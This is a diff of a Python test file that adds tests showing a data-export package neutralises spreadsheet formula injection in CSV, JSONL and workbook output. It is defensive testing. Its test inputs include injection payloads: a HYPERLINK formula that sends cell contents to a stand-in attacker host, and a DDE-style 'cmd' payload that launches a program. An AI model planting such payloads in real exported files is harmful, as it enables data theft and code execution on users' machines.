@@ -2,15 +2,25 @@
 
 import csv
 import json
+import re
 from dataclasses import replace
 from io import BytesIO, StringIO
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from headcount.publish.books import Books
 from headcount.publish.describe import describe_csvw, describe_package
 from headcount.publish.export import make_files
-from headcount.publish.files import write_csv, write_jsonl, write_parquet, write_workbook
+from headcount.publish.files import (
+    keep_from_running,
+    read_kept,
+    write_csv,
+    write_jsonl,
+    write_parquet,
+    write_workbook,
+)
 from headcount.publish.tables import BY_NAME, TABLES
 from headcount.publish.wikitext import write_wikitext
 from headcount.records.claim import Channel
@@ -73,10 +83,56 @@ def test_no_private_name_leaves_in_a_file(books: Books) -> None:
     assert not any(b"Petrenko" in content for name, content in files.items() if not name.endswith(("parquet", "xlsx")))
 
 
-def test_a_text_that_looks_like_a_formula_is_not_run(books: Books) -> None:
-    assert not any(
-        line.split(",")[0].startswith(("=", "+", "@")) for line in write_csv(TABLES[0], books).decode().splitlines()
-    )
+FORMULAS = (
+    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"more")',
+    "＝1+1", "＋1", "－1", "＠SUM(1)", "25;=1+1", "a;+1", "a;@SUM(1)", "a\n=1", "a\t=1", "'=1", "a;'=1",
+)  # fmt: skip
+"""What a spreadsheet runs: at a cell's beginning, or where it parts cells at a semicolon, a tab or a line's end."""
+HARMLESS = ("175:175", "1,358 came home", "a - b", "UKR;RUS", "'quoted'", "a=b", "Kyiv; - and Moscow", "")
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_text_that_a_spreadsheet_would_run_is_kept_from_it(text: str) -> None:
+    cell = keep_from_running(text)
+    assert not re.search(r"(^|[;\t\n\r])[=+\-@＝＋－＠\t\r]", cell)
+    assert cell != text
+    assert read_kept(cell) == text
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_other_texts_stay_as_they_are(text: str) -> None:
+    assert keep_from_running(text) == text == read_kept(text)
+
+
+@given(st.text(alphabet="'=+-@\t\r\n;＝a 1", max_size=12))
+def test_what_a_text_was_can_be_read_back(text: str) -> None:
+    assert read_kept(keep_from_running(text)) == text
+
+
+def poisoned(books: Books, text: str) -> Books:
+    """The books with one report whose every published text is this."""
+    report = next(iter(books.reports.values()))
+    return replace(books, reports={**books.reports, report.id: replace(report, headline=text, outlet=text)})
+
+
+@pytest.mark.parametrize("text", ["=1+1", "@SUM(1)", "25;=cmd|' /C calc'!A0"])
+def test_no_file_holds_a_formula_and_every_form_gives_the_text_back(books: Books, text: str) -> None:
+    table, poison = BY_NAME["reports"], poisoned(books, text)
+    rows = list(csv.reader(StringIO(write_csv(table, poison).decode())))
+    cells = [cell for row in rows for part in row for cell in part.split(";")]
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
+    assert any(read_kept(row["outlet"]) == text for row in csv.DictReader(StringIO(write_csv(table, poison).decode())))
+    assert any(json.loads(line)["outlet"] == text for line in write_jsonl(table, poison).decode().splitlines())
+
+
+def test_a_workbook_holds_texts_as_texts(books: Books) -> None:
+    openpyxl = pytest.importorskip("openpyxl", reason="needs openpyxl")
+    book = openpyxl.load_workbook(BytesIO(write_workbook(poisoned(books, "=1+1"))))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
+    held = [cell for cell in cells if cell.value == "=1+1"]
+    assert held
+    assert all(cell.quotePrefix for cell in held)
 
 
 def test_wikitext_sums_its_own_rows_and_cites_them(books: Books) -> None:
